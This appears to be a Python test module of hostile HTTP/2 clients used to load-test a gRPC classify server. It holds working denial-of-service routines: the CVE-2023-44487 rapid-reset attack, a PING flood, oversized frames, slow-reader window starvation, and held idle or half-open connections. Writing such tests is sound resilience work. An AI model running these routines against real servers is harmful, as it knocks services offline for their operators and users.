"""What hostile peers do to a connection, each until it is told to stop.

Each attack takes the server's address and an event; it reconnects when it is thrown out. In a
process of its own: ``python -m tests.load.attacks NAME ADDRESS [CONNECTIONS]``, until its stdin
ends.
"""

import socket
import struct
import sys
from collections.abc import Callable
from contextlib import ExitStack, suppress
from functools import partial
from threading import Event, Thread

from tests.integration.http2 import PREFACE, Http2, connected, endpoint

METHOD = "/classify.v1.ClassifyService/Classify"
STREAM = "/classify.v1.ClassifyService/ClassifyStream"
Attack = Callable[[str, Event], None]

_IDLE_CONNECTIONS = 200
_HALF_OPEN = 200


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """An HTTP/2 frame (RFC 9113 section 4.1)."""
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes([kind, flags])
        + struct.pack(">I", stream)
        + payload
    )


def http1(address: str, stop: Event) -> None:
    """Speak HTTP/1.1."""
    while not stop.is_set():
        with suppress(OSError), connected(address, 2) as connection:
            connection.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
            connection.recv(1024)


def garbage(address: str, stop: Event) -> None:
    """Send noise."""
    while not stop.is_set():
        with suppress(OSError), connected(address, 2) as connection:
            connection.sendall(bytes(range(256)) * 64)
            connection.recv(1024)


def oversized_frame(address: str, stop: Event) -> None:
    """Announce a frame of 16 MB, which no setting allows."""
    while not stop.is_set():
        with suppress(OSError), connected(address, 2) as connection:
            connection.sendall(PREFACE + frame(4, 0, 0) + b"\xff\xff\xff\x00\x00\x00\x00\x00\x01")
            while connection.recv(1024):
                pass


def ping_flood(address: str, stop: Event) -> None:
    """PING as fast as the socket takes it."""
    pings = frame(6, 0, 0, bytes(8)) * 500
    while not stop.is_set():
        with suppress(OSError), connected(address, 2) as connection:
            connection.sendall(PREFACE + frame(4, 0, 0))
            while not stop.is_set():
                connection.sendall(pings)


def rapid_reset(address: str, stop: Event) -> None:
    """CVE-2023-44487: open streams and reset them at once."""
    while not stop.is_set():
        with suppress(OSError), connected(address, 2) as connection:
            client = Http2(connection)
            while not stop.is_set():
                for _ in range(100):
                    client.state.reset_stream(client.call(METHOD))
                client.flush()


def slow_reader(address: str, stop: Event) -> None:
    """Ask a stream for answers and never read one."""
    item = bytes([0]) + struct.pack(">I", 4) + b"\x0a\x02\x0a\x00"
    while not stop.is_set():
        with suppress(OSError), socket.create_connection(endpoint(address), 2) as connection:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            client = Http2(connection)
            stream = client.call(STREAM)
            # 65,535 bytes of its window, and then it waits for credit that it never reads.
            for _ in range(7000):
                client.state.send_data(stream, item)
            client.flush()
            stop.wait(2)


def idle_connections(address: str, stop: Event, count: int = _IDLE_CONNECTIONS) -> None:
    """Hold connections open and say nothing beyond the handshake."""
    with ExitStack() as held:
        for _ in range(count):
            with suppress(OSError):  # a server that is full takes no more
                connection = held.enter_context(connected(address, 5))
                connection.sendall(PREFACE + frame(4, 0, 0))
        stop.wait()


def half_open_streams(address: str, stop: Event) -> None:
    """Begin calls and never send their message."""
    with suppress(OSError), connected(address, 2) as connection:
        client = Http2(connection)
        for _ in range(_HALF_OPEN):
            client.call(METHOD)
        stop.wait()


ATTACKS: dict[str, Attack] = {
    "HTTP/1.1": http1,
    "garbage": garbage,
    "oversized frame": oversized_frame,
    "ping flood": ping_flood,
    "rapid reset": rapid_reset,
    "slow reader": slow_reader,
    "idle connections": idle_connections,
    "half-open streams": half_open_streams,
}


def main() -> None:
    """Attack until stdin ends."""
    name, address, *count = sys.argv[1:]
    attack = partial(ATTACKS[name], count=int(count[0])) if count else ATTACKS[name]
    stop = Event()
    attacker = Thread(target=attack, args=(address, stop))
    attacker.start()
    sys.stdin.read()
    stop.set()
    attacker.join()


if __name__ == "__main__":
    main()
